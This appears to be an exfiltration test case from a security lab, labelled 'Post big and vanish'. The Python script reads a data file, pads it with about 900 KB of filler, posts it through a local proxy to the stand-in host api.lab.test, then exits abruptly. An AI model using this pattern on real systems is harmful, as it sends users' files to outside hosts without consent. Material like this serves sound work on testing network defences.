# lab:title: Post big and vanish
# lab:threat: exfil
# lab:layer: network
# lab:uses: api.lab.test:80
# lab:consequence: data left.
import os, socket
data = b"p" * 900000 + open(os.environ["LAB_DATA"], "rb").read()
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"POST http://api.lab.test/feedback HTTP/1.1\r\nHost: api.lab.test\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
os._exit(0)
